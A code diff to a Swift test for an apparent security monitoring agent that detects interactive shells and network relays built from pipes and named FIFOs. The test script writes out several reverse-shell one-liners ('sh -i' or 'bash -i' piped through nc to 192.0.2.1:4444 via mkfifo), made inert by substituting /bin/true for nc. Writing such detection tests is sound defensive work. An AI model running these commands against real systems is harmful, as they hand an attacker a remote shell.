@@ -356,13 +356,15 @@ extension RealKernelTests {
         // the shell reads the end of its input and exits.
         let script = """
             mkdir -p \(d)/bin && cp /bin/true \(d)/bin/nc
-            cd \(d) && mkfifo f1 f2 f3
+            cd \(d) && mkfifo f1 f2 f3 f4
             cat f1 | sh -i 2>&1 | \(d)/bin/nc 192.0.2.1 4444 > f1
             sh -i < f2 2>&1 | \(d)/bin/nc 192.0.2.1 4444 > f2
             cat f3 | /bin/bash --norc -i 2>&1 | \(d)/bin/nc 192.0.2.1 4444 > f3
+            sh < f4 2>&1 | \(d)/bin/nc 192.0.2.1 4444 > f4
             echo true | sh -s
+            echo true | sh
             echo true | sh -c 'grep -i x > /dev/null; exit 0'
-            echo hello | cat | cat > /dev/null
+            echo ruok | \(d)/bin/nc 127.0.0.1 2181 | cat > /dev/null
             exit 0
             """
         let result = try Agent.run(
@@ -371,9 +373,10 @@ extension RealKernelTests {
         let shells = outputs(of: "Interactive shell reading from a pipe", priority: "Error", in: result)
         #expect(shells.filter { $0.contains("command=sh -i") }.count == 2, "cat | sh -i, sh -i < fifo: \(shells)")
         #expect(shells.contains { $0.contains("bash --norc -i") }, "\(shells)")
-        #expect(shells.count == 3, "sh -s, and sh -c with -i inside its command, are not interactive: \(shells)")
-        let relays = outputs(of: "Network relay through pipes", priority: "Warning", in: result)
-        #expect(relays.count == 3, "\(relays)")
+        #expect(shells.contains { $0.contains("fifo=true") && $0.contains("command=sh pid=") }, "sh < fifo: \(shells)")
+        #expect(shells.count == 4, "sh -s and sh on an anonymous pipe, sh -c with -i in its command: not relays: \(shells)")
+        let relays = outputs(of: "Network relay through a FIFO", priority: "Error", in: result)
+        #expect(relays.count == 4, "the health check's pipes are anonymous: \(relays)")
     }
 
     @Test func fchmodat2AndMappedMetadataAddress() throws {
